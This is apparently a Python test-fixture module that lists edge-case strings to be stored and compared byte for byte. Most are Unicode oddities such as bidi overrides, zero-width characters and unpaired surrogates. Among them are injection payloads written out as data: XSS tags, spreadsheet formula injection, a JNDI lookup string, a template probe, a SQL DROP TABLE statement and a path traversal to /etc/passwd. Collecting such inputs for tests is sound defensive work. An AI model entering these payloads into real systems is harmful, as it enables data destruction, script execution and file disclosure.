"""Texts that trip a database, a spreadsheet, a page or a comparison, and are all kept byte for byte."""

from __future__ import annotations

from typing import Final

# No two of them are the same text, though some look so, or are so in another normal form or case.
NAMES: Final = (
    "\u202eright to left",
    "مرحبا \u200fبالعالم",
    "👗👩\u200d👩\u200d👧🏳\ufe0f\u200d🌈",
    "<script>alert(1)</script>",
    "\"><img src=x onerror='alert(1)'>&amp;",
    '=HYPERLINK("http://x","y")',
    "+1+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "e\u0301",
    "\u00e9",
    "Z\u0338\u0327\u0311a\u0334\u035d",
    "\u200bzero\u200b",
    "zero",
    "ZERO",
    "\u200b",
    "\ufeffmark",
    "\uffff",
    "\U0010ffff",
    "two\nlines",
    "two\r\nlines",
    "${jndi:ldap://x/a}",
    "{{7*7}}",
    "%00",
    "%",
    "'; DROP TABLE products; --",
    "  spaces  ",
    " ",
    "null",
    "\\u0000\\",
    "\x01\x1b[31m",
    "\x7f\x85\u2028",
    "../../etc/passwd",
    "x" * 240,
)

# 10 kB: titles and descriptions only.
LONG: Final = "長い👗" * 1_000

REFUSED: Final = ("a\0b", "\ud83d half a pair", "\udc57\ud83d")
